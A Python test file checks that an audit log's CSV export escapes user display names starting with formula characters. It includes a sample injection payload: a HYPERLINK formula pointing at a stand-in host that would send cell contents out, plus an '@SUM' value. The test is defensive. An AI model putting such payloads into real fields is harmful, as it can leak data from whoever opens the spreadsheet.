"""The audit CSV export opens safely in a spreadsheet: a cell that would start a formula (a
display name like ``=HYPERLINK(...)`` chosen by whoever holds a role) is kept as text, by the
same rule as the statistics export."""

from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

from services.areas import AreaService
from services.audit import AuditService
from services.grants import GrantService
from services.users import IncomingUser, UserService
from storage.uow import Sessions

FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1,"Xem")'


async def test_a_formula_in_an_actors_name_is_exported_as_text(sessions: Sessions) -> None:
    await AreaService(sessions).import_csv(
        "code,name,kind,parent_code\nND,Nam Định,province,\nND-TN,Phường Thống Nhất,ward,ND\n"
    )
    grants = GrantService(sessions)
    await grants.grant(target_telegram_id=501, role="police", area_code="ND-TN")
    users = UserService(sessions, default_language="vi", superadmin_ids=frozenset())
    officer = await users.identify(IncomingUser(501, FORMULA_NAME))
    await users.identify(IncomingUser(502, "@SUM(1+1)"))
    await grants.grant(target_telegram_id=502, role="moderator", area_code="ND-TN", actor=officer)

    audit = AuditService(sessions, tz=ZoneInfo("Asia/Ho_Chi_Minh"), superadmin_ids=frozenset())
    rows = list(csv.DictReader(io.StringIO(await audit.export(fmt="csv"))))
    [by_officer] = [r for r in rows if r["action"] == "grant.add" and r["actor"] != "system"]
    assert by_officer["actor"] == "'" + FORMULA_NAME
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
